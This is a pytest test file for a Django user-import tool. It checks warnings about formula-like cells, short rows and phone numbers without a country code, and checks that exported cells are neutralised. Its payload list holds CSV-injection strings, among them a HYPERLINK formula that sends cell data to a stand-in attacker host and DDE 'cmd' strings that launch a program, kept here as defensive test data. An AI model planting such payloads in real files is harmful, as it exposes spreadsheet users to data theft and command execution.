"""What a check notices that is no mistake: said on its page, in the language of who reads it."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import translation

from tests.import_pages import page
from tests.importing import apply, book, check
from tests.people import Browse
from users_profiles.models import Import, User
from users_profiles.transfer import hints, importer
from users_profiles.transfer.export import formats
from users_profiles.transfer.options import Options

pytestmark = pytest.mark.django_db

NAUGHTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "＝1+1",
    "+HYPERLINK(A1)",
]
HARMLESS = [
    "-",
    "--",
    "=",
    "-5°",
    "a=b",
    "(x)",
    "+491",
    "+49 (0)30 123456",
    "- plays chess (badly)",
    "@home (Berlin)",
    "'n Abend",
]


def said(job: Import) -> list[str]:
    return [hint.text for hint in hints.said(Options.from_json(job.options))]


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.mark.parametrize("text", NAUGHTY)
@pytest.mark.parametrize("column", ["location", "bio", "first_name"])
def test_a_formula_is_kept_as_text_and_said(column: str, text: str) -> None:
    job = apply(f"username,{column}\nada,{quoted(text)}\n")
    assert job.options["hints"] == {"formula": {"count": 1, "rows": [2]}}
    [sentence] = said(job)
    assert sentence.startswith("1 cell looks like a formula (row 2).")
    ada = User.objects.get()
    stored = ada.first_name if column == "first_name" else getattr(ada.profile, column)
    assert unicodedata.normalize("NFKC", stored) == unicodedata.normalize("NFKC", text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_begins_with_such_a_sign_is_nothing_to_speak_of(text: str) -> None:
    job = check(f"username,location,bio\nada,{quoted(text)},{quoted(text)}\n")
    assert job.options["hints"] == {}


def test_each_such_cell_is_counted_and_the_first_rows_are_named(
    browse: Browse, superuser: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = "".join(f"p{at},=1+1,=1+1\n" for at in range(1_000))
    job = check(f"username,location,bio\n{rows}", superuser)
    superuser.language = "de"
    superuser.save()
    shown = browse(superuser).get(page("change", job)).content.decode()
    assert "2.000 Zellen sehen wie Formeln aus (Zeilen 2, 3, 4, 5, 6 …)." in shown
    with translation.override("en"):
        assert said(job)[0].startswith("2,000 cells look like formulas (rows 2, 3, 4, 5, 6 …).")


def test_the_first_rows_are_named_whichever_of_their_cells_it_is() -> None:
    rows = "".join(f"p{at},{'=1+1' if at > 4 else ''},{'=1+1' if at in (1, 7) else ''}\n" for at in range(12))
    job = check(f"username,location,bio\n{rows}")
    assert job.options["hints"] == {"formula": {"count": 9, "rows": [3, 7, 8, 9, 10, 11]}}


def test_an_email_can_be_one_too_and_a_username_cannot() -> None:
    assert check("username,email\nada,=1+1@example.com\n").options["hints"]["formula"]["count"] == 1
    assert check("username\n=1+1\n").refused == 1


def test_what_was_taken_leaves_as_no_formula_and_comes_back_as_it_was() -> None:
    apply("username,location\n" + "".join(f"p{at},{quoted(text)}\n" for at, text in enumerate(NAUGHTY)))
    people = User.objects.order_by("pk")
    file = b"".join(part for part, _rows in formats.blocks(people, ["username", "location"], "csv"))
    cells = [line.split(",", 1)[1].strip('"') for line in file.decode("utf-8-sig").splitlines()[1:]]
    assert {cell[0] for cell in cells} == {"'"}
    assert check(file).unchanged == len(NAUGHTY)


# Short rows ---------------------------------------------------------------------------------------------------------


def test_a_row_that_is_too_short_is_said() -> None:
    job = check("username,first_name,location\nada,Ada\nbob,Bob,Rome\ncarl\ndora,Dora,\n")
    assert job.options["hints"] == {"short": {"count": 2, "rows": [2, 4]}}
    assert said(job)[0].startswith("2 rows have fewer cells than the header (rows 2, 4).")


def test_cells_that_are_missing_from_columns_nobody_takes_are_nothing_to_speak_of() -> None:
    assert check("username,first_name,Shoe size,Manager\nada,Ada\nbob,Bob,43\n").options["hints"] == {}


def test_a_cell_that_is_not_there_empties_nothing_and_an_empty_one_does(make_person: Callable[..., User]) -> None:
    for name in ("ada", "bob", "carl"):
        make_person(name, first_name="Kept", location="Berlin")
    job = apply("username,first_name,location\nada,\nbob,,\ncarl\n", blank_clears=True)
    assert (job.updated, job.unchanged) == (2, 1)
    found = {person.username: (person.first_name, person.profile.location) for person in User.objects.all()}
    assert found == {"ada": ("", "Berlin"), "bob": ("", ""), "carl": ("Kept", "Berlin")}


def test_in_excel_which_keeps_no_empty_cells_a_row_that_ends_early_has_empty_ones(
    make_person: Callable[..., User],
) -> None:
    make_person("ada", location="Berlin")
    job = apply(book(["username", "location"], ["ada", None]), blank_clears=True)
    assert job.options["hints"] == {}
    assert User.objects.get(username="ada").profile.location == ""


def test_somebody_new_gets_the_default_for_a_cell_that_is_not_there() -> None:
    apply("username,location\nada\n", defaults={"location": "Rome"}, blank_clears=True)
    assert User.objects.get().profile.location == "Rome"


# Phone numbers ------------------------------------------------------------------------------------------------------


def test_numbers_that_a_country_does_not_have_are_doubted(browse: Browse, superuser: User) -> None:
    rows = "ada,(415) 555-2671\nbob,030 1234567\ncarl,+49 30 123456\n"
    job = check(f"username,phone\n{rows}", superuser, region="US")
    assert job.options["hints"] == {
        "country": {"count": 1, "rows": [2]},
        "other_country": {"count": 1, "rows": [3]},
    }
    warning, remark = said(job)
    assert warning.startswith("1 phone number without a country code (row 3) is taken to be from United States (+1), ")
    assert remark == "Phone numbers without a country code are taken to be from United States (+1)."
    assert "notice-warn" in browse(superuser).get(page("change", job)).content.decode()


def test_many_refused_numbers_have_one_cause_and_the_page_says_where_to_mend_it(superuser: User) -> None:
    rows = "ada,030 123456\nbob,030/12345\ncarl,call me\ndora,+49 30\n"
    job = check(f"username,phone\n{rows}", superuser, region="US")
    assert job.options["hints"] == {"refused_country": {"count": 2, "rows": [2, 3]}}
    [warning] = said(job)
    assert warning.startswith("2 phone numbers without a country code (rows 2, 3) are refused: United States (+1) has")
    assert "on the Columns step" in warning


# Everywhere ---------------------------------------------------------------------------------------------------------


def test_an_import_that_was_cut_short_counts_each_row_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importer, "CHUNK", 2)
    job = check("username,location\n" + "".join(f"p{at},=1\n" for at in range(7)))
    Import.objects.filter(pk=job.pk).update(state=Import.State.CHECKING, cursor=4, created=4)
    job.refresh_from_db()
    importer.run(job)
    job.refresh_from_db()
    assert job.options["hints"] == {"formula": {"count": 7, "rows": [2, 3, 4, 5, 6, 7]}}


def test_the_command_says_it_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "people.csv"
    path.write_text("username,location,phone\nada,=1+1,(415) 555-2671\nbob\n")
    call_command("import_users", str(path), "--dry-run")
    told = capsys.readouterr().out
    assert "1 cell looks like a formula (row 2)." in told
    assert "1 row has fewer cells than the header (row 3)." in told
    assert "Phone numbers without a country code are taken to be from United States (+1)." in told


def test_options_of_another_version_of_us_are_read_without_what_we_do_not_know() -> None:
    assert Options.from_json({"header_row": 3, "no_such_option": True}).header_row == 3
